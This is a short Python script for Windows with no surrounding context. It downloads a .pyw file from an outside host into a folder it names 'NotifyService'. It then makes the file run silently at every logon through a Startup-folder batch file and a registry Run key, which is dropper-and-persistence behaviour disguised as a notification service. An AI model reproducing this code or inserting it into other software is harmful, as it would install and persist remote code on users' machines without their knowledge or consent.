import os
import shutil
import urllib.request
import winreg

STARTUP = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
HOME = os.path.join(os.environ["LOCALAPPDATA"], "NotifyService")


def ensure():
    os.makedirs(HOME, exist_ok=True)
    target = os.path.join(HOME, "notifysvc.pyw")
    if os.path.exists(target):
        return
    with urllib.request.urlopen("https://dl.notify-svc.invalid/svc.pyw") as answer, open(target, "wb") as handle:
        shutil.copyfileobj(answer, handle)
    with open(os.path.join(STARTUP, "notifysvc.bat"), "w") as handle:
        handle.write('@echo off\nstart "" pythonw "%s"\n' % target)
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, "NotifySvc", 0, winreg.REG_SZ, 'pythonw "%s"' % target)
    winreg.CloseKey(key)
